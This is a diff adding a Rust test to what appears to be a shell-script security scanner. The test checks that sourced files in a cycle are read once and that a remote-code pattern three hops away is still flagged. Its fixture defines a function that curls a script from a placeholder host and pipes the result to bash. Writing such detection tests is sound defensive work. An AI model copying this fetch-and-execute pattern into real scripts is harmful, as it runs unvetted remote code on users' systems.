@@ -256,6 +256,25 @@ fn functions_of_files_sourced_by_sourced_files_are_read() {
     assert_each_high(&[("scripts/main.sh", &files)], "combo.remote-code");
 }
 
+/// Sourced files that source each other (`lib/a.sh` and `lib/b.sh`) are joined once each and
+/// the walk ends; a function two sources away from the first sourced file (`main.sh` → `a.sh`
+/// → `b.sh` → `c.sh`, the third hop) is still read at its call.
+#[test]
+fn sourced_files_in_a_cycle_are_read_once_and_the_third_hop_is_reached() {
+    let here = "#!/bin/bash\nHERE=\"$(dirname \"${BASH_SOURCE[0]}\")\"\n";
+    let a = format!("{here}. \"$HERE/b.sh\"\n");
+    let b = format!("{here}. \"$HERE/a.sh\"\n. \"$HERE/c.sh\"\n");
+    let c = "#!/bin/bash\nget_text() {\n  curl -fsSL \"https://cdn.example-tools.net/$1\"\n}\n";
+    let main = "#!/bin/bash\nsource \"$(dirname \"$0\")/lib/a.sh\"\nget_text boot.sh | bash\n";
+    let files = [
+        ("scripts/lib/a.sh", a.as_str()),
+        ("scripts/lib/b.sh", b.as_str()),
+        ("scripts/lib/c.sh", c),
+        ("scripts/main.sh", main),
+    ];
+    assert_each_high(&[("scripts/main.sh", &files)], "combo.remote-code");
+}
+
 /// Hostile fan-out with distinct arguments at every call (no memoised result applies):
 /// PowerShell and shell functions that each call the next ten times in each of 60 statements,
 /// three deep, called 2,000 times with distinct literals. Full reads and summaries stay within
